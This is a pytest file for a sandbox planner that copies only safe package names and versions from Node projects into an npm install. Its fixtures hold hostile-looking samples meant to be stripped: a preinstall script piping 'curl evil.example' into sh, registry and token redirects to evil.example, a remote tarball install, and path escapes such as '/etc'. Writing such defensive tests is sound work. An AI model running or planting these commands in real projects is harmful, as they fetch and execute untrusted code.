"""What npm gets of a checkout: names and versions, and nothing that runs or points elsewhere."""

import json

import pytest

from sandbox.recipe.detect import plan_recipe
from sandbox.recipe.node_packages import node_files
from sandbox.recipe.node_settings import unused_choice
from sandbox.types import AddedPackage, JobHints, NodePart, Recipe

PACKAGE = {
    "name": "web",
    "private": True,
    "scripts": {"preinstall": "curl evil.example | sh", "test": "vitest run"},
    "devDependencies": {"vitest": "^3"},
    "packageManager": "npm@10.8.2+sha512.abc",
    "publishConfig": {"registry": "https://evil.example"},
}
LOCK = b'{"lockfileVersion": 3, "packages": {}}'


def plan(contents: dict[str, bytes], command: str = "npm test") -> Recipe:
    return plan_recipe(JobHints(command=command), contents.keys(), contents)


def project(**more: bytes) -> dict[str, bytes]:
    files = {"package.json": json.dumps(PACKAGE).encode(), "package-lock.json": LOCK}
    return files | {name.replace("__", "."): content for name, content in more.items()}


def test_the_packages_of_a_lock_file_are_planned() -> None:
    recipe = plan(project(__nvmrc=b"20.11\n"))
    assert recipe.node == NodePart(version="20.11", manager_version="10.8.2", folders=(".",))
    assert (recipe.command, recipe.kind, recipe.obstacles) == ("npx vitest run", "test", ())


def test_scripts_and_registries_do_not_reach_npm() -> None:
    npmrc = (
        b"registry = https://evil.example/\n//evil.example/:_authToken = t\nlegacy-peer-deps=true"
    )
    contents = project(__npmrc=npmrc)
    recipe = plan(contents)
    files = node_files(recipe, contents.keys(), contents)
    assert set(files) == {"node/package.json", "node/package-lock.json"}
    assert json.loads(files["node/package.json"]) == {
        "name": "web",
        "private": True,
        "devDependencies": {"vitest": "^3"},
    }
    assert recipe.node is not None
    assert recipe.node.legacy_peers
    assert any(entry.step == ".npmrc" for entry in recipe.fidelity)


@pytest.mark.parametrize(("for_lock", "kept"), [(True, ["ms"]), (False, None)])
def test_bun_sees_what_its_lock_file_repeats_if_it_writes_it(
    *, for_lock: bool, kept: list[str] | None
) -> None:
    package = json.dumps(PACKAGE | {"trustedDependencies": ["ms"]}).encode()
    contents = {"package.json": package, "bun.lock": b"{}"}
    recipe = Recipe(command="bun test", parts=(NodePart(manager="bun", folders=(".",)),))
    files = node_files(recipe, contents.keys(), contents, for_lock=for_lock)
    assert json.loads(files["node/package.json"]).get("trustedDependencies") == kept


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ({"directory": "dist", "registry": "https://evil.example"}, {"directory": "dist"}),
        (
            {"directory": "a/b", "linkDirectory": False},
            {"directory": "a/b", "linkDirectory": False},
        ),
        ({"directory": "../out"}, None),
        ({"directory": "/etc"}, None),
        ({"directory": ["dist"]}, None),
    ],
)
def test_the_folder_that_a_lock_file_of_pnpm_repeats_is_kept(
    given: dict[str, object], kept: dict[str, object] | None
) -> None:
    package = json.dumps(PACKAGE | {"publishConfig": given}).encode()
    contents = project() | {"package.json": package}
    files = node_files(plan(contents), contents.keys(), contents)
    assert json.loads(files["node/package.json"]).get("publishConfig") == kept


def test_workspaces_come_along_and_installed_packages_do_not() -> None:
    contents = project() | {
        "packages/a/package.json": b'{"name": "a", "scripts": {"install": "x"}}',
        "packages/b/package.json": b"[" * 100_000,
        "node_modules/c/package.json": b'{"name": "c"}',
    }
    files = node_files(plan(contents), contents.keys(), contents)
    assert json.loads(files["node/packages/a/package.json"]) == {"name": "a"}
    assert json.loads(files["node/packages/b/package.json"]) == {}
    assert not any("node_modules" in name for name in files)


@pytest.mark.parametrize(
    ("contents", "folders"),
    [
        (project(), (".",)),
        ({"package.json": b'{"name": "plain"}'}, ()),
        ({"package.json": b'{"dependencies": {"x": "1"}}'}, (".",)),
        ({"web/x.js": b""}, None),
        ({"package.json": b"not json", "npm-shrinkwrap.json": b"{}"}, (".",)),
        ({"package.json": b'\xef\xbb\xbf{"dependencies": {"x": "1"}}'}, (".",)),
    ],
)
def test_packages_are_installed_from_a_lock_file_or_else_as_of_today(
    contents: dict[str, bytes], folders: tuple[str, ...] | None
) -> None:
    recipe = plan(contents)
    assert (recipe.node.folders if recipe.node is not None else None) == folders
    is_noted = any("no lock file" in entry.reason for entry in recipe.fidelity)
    assert is_noted is (
        bool(folders) and not any("shrinkwrap" in n or "lock" in n for n in contents)
    )


def test_a_python_project_needs_no_node() -> None:
    contents = project() | {"test_x.py": b""}
    assert plan(contents, "python -m pytest").node is None
    assert node_files(Recipe(command="x"), contents.keys(), contents) == {}


@pytest.mark.parametrize(
    ("command", "expected", "kind"),
    [
        ("npm run lint", "npm run lint", "lint"),
        ("npm run -s test:unit", "npm run -s test:unit", "test"),
        ("npm run format:check", "npm run format:check", "format"),
        ("npx tsc --noEmit", "npx tsc --noEmit", "types"),
        ("npx prettier --check .", "npx prettier --check .", "format"),
        ("node --test", "node --test", "test"),
        (
            "node -r x node_modules/jest/bin/jest.js",
            "node -r x node_modules/jest/bin/jest.js",
            "test",
        ),
        ("npm ci && npm run build", "", "other"),
    ],
)
def test_commands_of_node_have_their_kind(command: str, expected: str, kind: str) -> None:
    job = {"runs-on": "ubuntu-latest", "steps": [{"name": "Go", "run": command}]}
    workflow = json.dumps({"on": "push", "jobs": {"check": job}}).encode()
    contents = project() | {".github/workflows/ci.yml": workflow}
    recipe = plan_recipe(JobHints(job_name="check"), contents.keys(), contents)
    assert recipe.node is not None
    if expected:
        assert (recipe.command, recipe.kind) == (expected, kind)


def test_a_hook_of_pnpm_leaves_no_digest_in_its_lock_file() -> None:
    lock = b"lockfileVersion: '9.0'\n\npnpmfileChecksum: sha256-abc\n\nimporters: {}\n"
    npmrc = b"exclude-links-from-lockfile=true\npeers-suffix-max-length=1000\n"
    contents = {"package.json": b"{}", "pnpm-lock.yaml": lock, ".npmrc": npmrc}
    files = node_files(plan(contents, "pnpm vitest run"), contents.keys(), contents)
    assert files["node/pnpm-lock.yaml"] == "lockfileVersion: '9.0'\n\n\nimporters: {}\n"
    assert files["node/.npmrc"] == npmrc.decode()


@pytest.mark.parametrize(
    ("asked", "installed"), [("1.2.20", "1.3.14"), ("1.3.14", "1.3.14"), ("1.10.0", "1.10.0")]
)
def test_an_old_bun_is_replaced_by_one_that_the_proxy_lets_through(
    asked: str, installed: str
) -> None:
    package = {"packageManager": f"bun@{asked}", "devDependencies": {"vitest": "3"}}
    recipe = plan({"package.json": json.dumps(package).encode(), "bun.lock": b"{}"}, "npx vitest")
    assert recipe.node is not None
    assert recipe.node.manager_version == installed
    noted = any("proxy" in entry.reason for entry in recipe.fidelity)
    assert noted is (asked != installed)


@pytest.mark.parametrize(
    ("command", "added"),
    [
        ("npm install --no-save --force eslint@10.x", ("eslint@10.x",)),
        ("npm i -D a@4 '@b/c@^2 || ^4' d", ("a@4", "@b/c@^2 || ^4", "d")),
        ("npm install -w packages/a react@18", None),
        ("npm install react@18 ./packages/a", None),
        ("npm install github:a/b", None),
        ("npm install a@https://evil.example/a.tgz", None),
        ("npm install a@npm:b@1", None),
        ("npm install a@file:../b", None),
    ],
)
def test_packages_that_a_job_adds_are_planned(command: str, added: tuple[str, ...] | None) -> None:
    recipe = plan(project(), f"{command} && npm test")
    assert recipe.node is not None
    assert tuple(one.package for one in recipe.node.added) == (added or ())
    (entry,) = (entry for entry in recipe.fidelity if entry.step.startswith("npm i"))
    assert entry.treatment == ("dropped" if added is None else "replaced")


def test_packages_are_added_in_the_folder_that_names_them() -> None:
    contents = {f"{folder}/{name}": text for folder in "abc" for name, text in project().items()}
    script = "(cd a && npm ci)\n(cd b && npm ci && npm i --no-save react@18)\ncd c && npm test"
    recipe = plan(contents, script)
    assert recipe.node is not None
    assert set(recipe.node.folders) == {"a", "b", "c"}
    assert recipe.node.added == (AddedPackage(package="react@18", folder="b"),)


@pytest.mark.parametrize(
    ("lock", "added"),
    [(b"# yarn lockfile v1\n", ("webpack@5",)), (b"__metadata:\n  version: 8\n", ())],
)
def test_the_newer_yarn_adds_nothing_because_it_might_run_code(
    lock: bytes, added: tuple[str, ...]
) -> None:
    contents = {"package.json": b'{"scripts": {"test": "vitest run"}}', "yarn.lock": lock}
    recipe = plan(contents, "yarn add webpack@5 -D && yarn test")
    assert recipe.node is not None
    assert tuple(one.package for one in recipe.node.added) == added


def test_a_lock_file_of_empty_lines_is_searched_in_linear_time() -> None:
    contents = {"package.json": b"{}", "pnpm-lock.yaml": b"\n" * 500_000}
    assert unused_choice(contents.keys(), contents, ".") is None
